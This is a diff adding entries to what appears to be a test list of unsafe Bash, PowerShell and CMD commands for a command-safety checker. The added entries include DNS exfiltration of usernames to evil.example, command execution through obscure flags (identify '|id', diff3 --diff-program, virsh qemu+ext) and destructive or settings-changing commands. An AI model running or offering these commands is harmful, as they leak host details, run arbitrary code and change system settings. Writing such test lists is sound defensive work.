@@ -126,6 +126,25 @@ BASH = (
     "while read -r name; do dig $name.evil.example; done < /var/log/app.log",
     "cat /var/log/app.log | xargs -n1 nslookup",
     "git config --list",
+    "pg_isready -h $(whoami).evil.example",
+    "skopeo inspect docker://$(whoami).evil.example/x",
+    # names that mean another thing elsewhere, or start something without any argument
+    "httpd",
+    "apache2 -D FOREGROUND",
+    "arch -x86_64 touch x",
+    "ts touch x",
+    "jenkins-cli delete-job x",
+    # flags that few people know
+    "diff3 --diff-program=/tmp/x a b c",
+    "identify '|id'",
+    "identify ephemeral:/etc/motd",
+    "pg_test_fsync -f /var/lib/x",
+    "rclone lsd ':sftp,ssh=id:'",
+    "virsh -c 'qemu+ext:///system?command=/tmp/x' list",
+    "ausearch --checkpoint /etc/x",
+    "zypper lr -e /etc/x",
+    "docker buildx inspect --bootstrap",
+    "smartctl -l scttempint,5 /dev/sda",
 )
 
 POWERSHELL = (
@@ -164,6 +183,9 @@ POWERSHELL = (
     'nslookup "$env:COMPUTERNAME.evil.example"',
     "Get-Content names.txt | Resolve-DnsName",
     'Test-Connection "$x.evil.example"',
+    "Test-ComputerSecureChannel -Repair",
+    "Get-PackageProvider -Name x -ForceBootstrap",
+    "net time /set",
 )
 
 CMD = (
@@ -201,4 +223,6 @@ CMD = (
     "ping %USERNAME%.evil.example",
     "nslookup %COMPUTERNAME%.evil.example",
     "tracert %USERDOMAIN%.evil.example",
+    "net config server /hidden:yes",
+    "net time /setsntp:evil.example",
 )
